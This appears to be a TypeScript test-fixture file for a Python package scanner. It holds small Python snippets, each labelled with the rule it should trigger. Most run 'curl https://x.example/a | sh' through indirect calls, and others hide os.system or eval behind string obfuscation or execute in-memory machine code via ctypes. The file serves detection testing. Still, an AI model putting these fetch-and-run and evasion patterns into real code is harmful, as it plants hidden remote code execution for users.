import type { Case } from './pack-of.ts'

const pack = (rule: string, name: string, init: string, more: Record<string, string> = {}): Case => ({
  name: `more: ${name}`,
  rule,
  files: { '__init__.py': `${init}\n`, ...more },
})

/** Further spellings of flows of functions and names. */
export const moreFlows: Case[] = [
  pack(
    'suspicious-command',
    'class attr of functions',
    `import os
class R:
    go = staticmethod(os.system)
R.go("curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    'generator of functions',
    `import os
def g():
    yield os.system
for f in g():
    f("curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    'next iter of functions',
    `import os
next(iter([os.system]))("curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    'property of functions',
    `import subprocess
class P:
    @property
    def run(self):
        return subprocess.run
P().run("curl https://x.example/a | sh", shell=True)`,
  ),
  pack(
    'suspicious-command',
    'match star of functions',
    `import os
a, *b = [1, os.system]
b[0]("curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    'default param of functions',
    `import os
def f(c, s=os.system):
    s(c)
f("curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    'kwargs of functions',
    `import os
def f(**k):
    k["run"](k["cmd"])
f(run=os.system, cmd="curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    'global alias set in fn of functions',
    `import os
r = None
def setup():
    global r
    r = os.system
def go():
    r("curl https://x.example/a | sh")
setup(); go()`,
  ),
  pack(
    'suspicious-command',
    'walrus of functions',
    `import os
(x := os.system)("curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    'ternary of functions',
    `import os, sys
(os.system if sys.platform == "win32" else os.popen)("curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    'module getattr of functions',
    `from . import m
m.system("curl https://x.example/a | sh")`,
    {
      'm.py': `import os
def __getattr__(name):
    return getattr(os, name)
`,
    },
  ),
  pack(
    'suspicious-command',
    'metaclass of functions',
    `import os
class M(type):
    def __getattr__(cls, n):
        return getattr(os, n)
class A(metaclass=M): pass
A.system("curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    '__getitem__ of functions',
    `import os
class A:
    def __getitem__(self, n):
        return os.__dict__[n]
A()["system"]("curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    'subclass call of functions',
    `import os
class A:
    def __call__(self, c): return os.system(c)
class B(A): pass
B()("curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    'atexit of functions',
    `import atexit, os
atexit.register(os.system, "curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    'async of functions',
    `import asyncio
async def run(f, *a):
    return await f(*a)
asyncio.run(run(asyncio.create_subprocess_shell, "curl https://x.example/a | sh"))`,
  ),
  pack(
    'suspicious-command',
    'node fn of functions',
    `import os
def pick(n): return getattr(os, n)
class N:
    FUNCTION = "go"
    def go(self, x):
        pick("system")("curl https://x.example/a | sh")`,
  ),
  pack(
    'obfuscated-code',
    'chr of names',
    `getattr(__import__("".join(map(chr, [111, 115]))), "".join(chr(c) for c in (115,121,115,116,101,109)))("ls")`,
  ),
  pack(
    'obfuscated-code',
    'hex of names',
    `import builtins
vars(builtins)[bytes.fromhex("65786563").decode()]("import os")`,
  ),
  pack(
    'obfuscated-code',
    'mod globals of names',
    `def f(): pass
f.__globals__["__builtins__"]["ev" + "al"]("__import__('os')")`,
  ),
  pack(
    'obfuscated-code',
    'lambda list of names',
    `(lambda *p: getattr(__import__(p[0] + p[1]), p[2])("ls"))("o", "s", "sys" + "tem")`,
  ),
  pack(
    'obfuscated-code',
    'sys modules of names',
    `import sys
sys.modules["o" + "s"].__dict__["sys" + "tem"]("ls")`,
  ),
  pack(
    'obfuscated-code',
    'format of names',
    `getattr(__import__("{}{}".format("o", "s")), "{1}{0}".format("tem", "sys"))("ls")`,
  ),
  pack(
    'obfuscated-code',
    'translate of names',
    `t = str.maketrans("abcd", "syte")
getattr(__import__("os"), "abacdm".translate(t))("ls")`,
  ),
  pack(
    'obfuscated-code',
    'ctypes of names',
    `import importlib
m = importlib.import_module("su" "bpro" + "cess")
m.run(["ls"])`,
  ),
  pack(
    'code-from-data',
    'windll thread of machine code',
    `import ctypes
sc = bytearray(b"\\x90\\xc3")
k32 = ctypes.WinDLL("kernel32")
addr = k32.VirtualAlloc(ctypes.c_int(0), ctypes.c_int(len(sc)), ctypes.c_int(0x3000), ctypes.c_int(0x40))
k32.RtlMoveMemory(ctypes.c_int(addr), (ctypes.c_char * len(sc)).from_buffer(sc), ctypes.c_int(len(sc)))
k32.CreateThread(0, 0, ctypes.c_int(addr), 0, 0, 0)`,
  ),
  pack(
    'code-from-data',
    'mmap const of machine code',
    `import mmap, ctypes
b = mmap.mmap(-1, mmap.PAGESIZE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
t = ctypes.CFUNCTYPE(ctypes.c_int)
p = ctypes.c_void_p.from_buffer(b)
t(ctypes.addressof(p))()`,
  ),
  pack(
    'code-from-data',
    'libc mmap of machine code',
    `import ctypes
libc = ctypes.CDLL("libc.so.6")
libc.mmap.restype = ctypes.c_void_p
p = libc.mmap(None, 4096, 7, 0x22, -1, 0)
ctypes.memmove(p, b"\\xc3", 1)
ctypes.CFUNCTYPE(None)(p)()`,
  ),
  pack(
    'code-from-data',
    'class in function of machine code',
    `import ctypes
class Mem:
    def __init__(self, lib, size):
        self.p = lib.VirtualAlloc(None, size, 0x1000 | 0x2000, 0x40)
    def call(self):
        return ctypes.WINFUNCTYPE(ctypes.c_int)(self.p)()
class N:
    def go(self):
        Mem(ctypes.windll.kernel32, 100).call()`,
  ),
]
